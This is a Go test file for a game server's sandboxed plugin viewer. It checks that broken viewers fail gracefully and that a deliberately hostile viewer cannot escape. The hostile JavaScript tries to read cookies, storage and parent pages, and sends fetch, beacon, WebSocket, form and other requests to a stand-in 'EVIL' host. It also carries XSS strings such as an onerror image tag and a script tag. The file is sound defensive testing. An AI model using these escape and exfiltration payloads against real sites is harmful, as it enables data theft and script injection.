package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

func TestABrokenViewerGivesWayToTheText(t *testing.T) {
	const head = "export const start = () => ({}); "
	tests := []struct{ name, viewer, says string }{
		{"does not parse", "export const start = (;", "SyntaxError"},
		{"exports nothing", "const x = 1;", "no function start"},
		{"throws at the start", "export function start() { throw new Error('no start'); } export function read() {} export function draw() {}", "no start"},
		{"throws at a line", head + "export function read() { throw new Error('no line'); } export function draw() { return ''; }", "no line"},
		{"throws when it draws", head + "export function read() {} export function draw() { throw new Error('no picture'); }", "no picture"},
		{"throws later", head + "export function read() {} export function draw() { setTimeout(() => { throw new Error('too late'); }, 10); return ''; }", "too late"},
		{"never ends", head + "export function read() { for (;;); } export function draw() { return ''; }", "does not answer"},
		{"goes elsewhere", head + "export function read() {} export function draw() { location.href = '/'; return ''; }", "left its frame"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := startWith(t, tt.viewer)
			alice := dial(t, h)
			id := alice.create("broken", 100, 1)
			alice.join(id, "alice")
			alice.say("ROCK")
			b := open(t, 800, 600)
			b.visit(h.url + "/match/" + id)
			b.await("document.querySelector('#notice').textContent.includes(" + quote(tt.says) + ")")
			b.await("document.querySelector('pre.text').textContent.includes('ROCK')")
			alice.say("PAPER")
			b.await("document.querySelector('pre.text').textContent.includes('PAPER')")
		})
	}
}

// hostile tries to get out in every way that a page knows, and tells by its
// caption what became of it.
const hostile = `
const out = {};
const attempt = async (name, f) => {
	try { out[name] = "DONE " + String(await f()).slice(0, 60); } catch (error) { out[name] = "refused"; }
};
const evil = "EVIL";
let tried = false;
async function attack() {
	await attempt("parent", () => parent.document.title);
	await attempt("top", () => top.document.body.innerHTML);
	await attempt("parent location", () => { top.location.href = evil + "/top"; return top.location.href; });
	await attempt("storage", () => localStorage.getItem("name"));
	await attempt("cookie", () => document.cookie);
	await attempt("fetch", () => fetch(evil + "/fetch"));
	await attempt("fetch home", () => fetch("/api/lobby"));
	await attempt("import", () => import(evil + "/import.js"));
	await attempt("import home", () => import("/assets/dom.js"));
	await attempt("beacon", () => { if (!navigator.sendBeacon(evil + "/beacon")) throw 0; return new Promise((_, no) => setTimeout(no, 300)); });
	await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket(evil.replace("http", "ws") + "/socket"); s.onopen = yes; s.onerror = no; }));
	await attempt("socket home", () => new Promise((yes, no) => { const s = new WebSocket("ws://HOME/"); s.onopen = yes; s.onerror = no; }));
	await attempt("image", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = evil + "/image.png"; }));
	await attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + evil + "/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? yes() : no(); w.onerror = no; setTimeout(no, 1000); }));
	await attempt("inline", () => new Promise((yes, no) => { globalThis.gotIn = yes; const s = document.createElement("script"); s.textContent = "gotIn()"; document.body.append(s); setTimeout(no, 200); }));
	await attempt("frame", () => new Promise((yes, no) => { const f = document.createElement("iframe"); f.src = evil + "/frame"; document.body.append(f); setTimeout(no, 300); }));
	await attempt("style", () => new Promise((yes, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = yes; l.onerror = no; l.href = evil + "/style.css"; document.head.append(l); setTimeout(no, 1000); }));
	await attempt("popup", () => { const w = open(evil + "/popup"); if (!w) throw 0; });
	await attempt("form", () => new Promise((yes, no) => { const f = document.createElement("form"); f.action = evil + "/form"; document.body.append(f); f.submit(); setTimeout(no, 300); }));
	out.finished = "yes";
}
export const start = () => ({});
export function read() {}
export function draw(state, page) {
	if (!tried) { tried = true; attack().then(() => page.redraw()); }
	parent.postMessage({ send: "ROCK" }, "*");
	page.send("ROCK");
	const pre = document.createElement("pre");
	pre.id = "out";
	pre.textContent = JSON.stringify(out);
	return pre;
}
export const status = () => ({
	caption: "<img src=x onerror=alert(1)>", turn: "x", seat: -1, players: [{ name: "<script>alert(1)</script>", score: { toString: null } }, null, 7],
	choices: [{ line: { a: 1 }, label: "<b>" }],
});
`

func TestAHostileViewerReachesNobody(t *testing.T) {
	var requests atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests.Add(1)
		t.Logf("the viewer reached %s", r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer evil.Close()
	needBrowser(t)
	plugins := folder(t, []string{"roshambo"}, nil)
	h := serve(t, plugins, t.TempDir(), "127.0.0.1:0")
	writeViewer(t, plugins, strings.NewReplacer("EVIL", evil.URL, "HOME", strings.TrimPrefix(h.url, "http://")).Replace(hostile))
	alice := dial(t, h)
	id := alice.create("hostile", 100, 1)
	alice.join(id, "alice")
	alice.say("ROCK")
	b := open(t, 1000, 700)
	b.visit(h.url + "/match/" + id)
	b.enter()
	b.await("document.querySelector('#out').textContent.includes('finished')")
	if out := b.text("document.querySelector('#out').textContent"); strings.Contains(out, "DONE") {
		t.Errorf("the viewer got through: %s", out)
	}
	b.leave()
	if got := b.text("location.href"); got != h.url+"/match/"+id {
		t.Errorf("the page went to %s", got)
	}
	if got := b.text("document.querySelector('#caption').textContent"); got != "<img src=x onerror=alert(1)>" {
		t.Errorf("the caption is %q", got)
	}
	if n := b.text("document.querySelectorAll('#caption *, #players script, #choices button').length"); n != "0" {
		t.Errorf("%s elements of the viewer are in the page", n)
	}
	if n := requests.Load(); n != 0 {
		t.Errorf("%d requests went out", n)
	}
}

func TestAViewerThatLeavesItsFrameTakesNothingWithIt(t *testing.T) {
	var requests atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { requests.Add(1) }))
	defer evil.Close()
	h := startWith(t, fmt.Sprintf(`export const start = () => ({}); export function read() {} export function draw() { location.href = %q; return ""; }`, evil.URL+"/?secret"))
	alice := dial(t, h)
	id := alice.create("leaves", 100, 1)
	alice.join(id, "alice")
	b := open(t, 1000, 700)
	b.visit(h.url + "/match/" + id)
	b.await("document.querySelector('#notice').textContent.includes('failed')")
	if n := requests.Load(); n != 0 {
		t.Errorf("%d requests went out", n)
	}
}
